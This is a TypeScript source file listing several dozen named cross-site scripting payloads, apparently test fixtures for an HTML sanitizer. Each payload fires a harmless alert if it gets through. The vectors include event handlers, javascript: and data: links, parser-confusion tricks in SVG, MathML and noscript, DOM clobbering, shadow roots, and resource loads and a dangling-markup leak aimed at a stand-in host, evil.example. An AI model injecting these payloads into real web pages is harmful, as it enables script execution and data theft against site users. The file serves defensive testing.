// HTML with which an attacker would try to run a script: each calls `alert` where it gets through. Our own; those that
// others collected are read where the environment names their folder.

/** Name and HTML. */
export const PAYLOADS: readonly (readonly [name: string, html: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['an event of an image', '<img src=x onerror=alert(1)>'],
  ['an event of an SVG', '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  [
    'a script in an SVG',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  ],
  ['a link that runs', '<a href="javascript:alert(1)">a</a><a href="vbscript:alert(1)">b</a>'],
  ['a scheme with tabs and lines', '<a href="java\tscr\nipt:alert(1)">a</a><a href="\u0001 javascript:alert(1)">b</a>'],
  ['a scheme in entities', '<a href="&#106;avascript&colon;alert(1)">a</a><a href="java&Tab;script:alert(1)">b</a>'],
  [
    'a document in a frame',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:parent.alert(1)"></iframe>',
  ],
  [
    'a document in an address',
    '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe><object data="data:text/html,<script>alert(1)</script>"></object><a href="data:text/html,<script>alert(1)</script>">a</a>',
  ],
  [
    'an event that comes by itself',
    '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>',
  ],
  ['an event of a style', '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>'],
  [
    'a form',
    '<form action="javascript:alert(1)"><input name=attributes><input name=parentNode><button formaction="javascript:alert(1)">x</button></form>',
  ],
  [
    'names that hide properties',
    '<a id=attributes></a><img name=body><form id=kp><input name=childNodes></form><img name=getElementById src=x onerror=alert(1)>',
  ],
  [
    'a base, a refresh and a style sheet',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/p">',
  ],
  [
    'a style that asks elsewhere',
    '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/b)}</style><p style="background:url(https://evil.example/p)">x</p>',
  ],
  [
    'MathML that turns into HTML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  [
    'foreign content that breaks out',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg><math><mi><img src=x onerror=alert(1)></mi></math>',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  [
    'raw text',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><title><p title="</title><img src=x onerror=alert(1)>"></title>',
  ],
  ['a template', '<template><img src=x onerror=alert(1)></template><template><script>alert(1)</script></template>'],
  [
    'a declared shadow root',
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a></template>x</div>',
  ],
  [
    'a closed shadow root',
    '<p><template shadowrootmode=closed><img src="https://evil.example/i"><svg onload=alert(1)></template>x</p>',
  ],
  [
    'a customised element',
    '<p is="kp-x" onclick=alert(1)>x</p><x-y onclick=alert(1)>y</x-y><kp-news-feed feed="https://evil.example/feed"></kp-news-feed>',
  ],
  ['an attribute that ends early', '"><img src=x onerror=alert(1)><p title="'],
  ['an attribute that ends early, the other way', "'><img src=x onerror=alert(1)><p title='` onmouseover=alert(1) x="],
  ['a title that ends', '</title></style></script></textarea></template></noscript>--><img src=x onerror=alert(1)>'],
  ['markup left hanging', '<img src="https://evil.example/?'],
  [
    "a comment that isn't one",
    '<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)><![CDATA[><img src=x onerror=alert(1)>]]>',
  ],
  [
    'markup in an alternative text',
    '<img src=x alt="--><img src=x onerror=alert(1)>"><img src=x alt="</noscript><script>alert(1)</script>">',
  ],
  ['signs that turn the direction', '\u202e<b>txet\u2066</b><img src=x onerror=alert(1)>\u202c'],
  [
    'an image of somewhere else',
    '<img src="https://evil.example/i.png" srcset="https://evil.example/s.png 2x"><picture><source srcset="https://evil.example/t.png"><img src="//evil.example/u.png"></picture><video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>',
  ],
  [
    'tables and links misnested',
    '<a href=x><table><td><a href="javascript:alert(1)" onclick=alert(1)><b><p></a><select><option><style></select><img src=x onerror=alert(1)></style>',
  ],
];
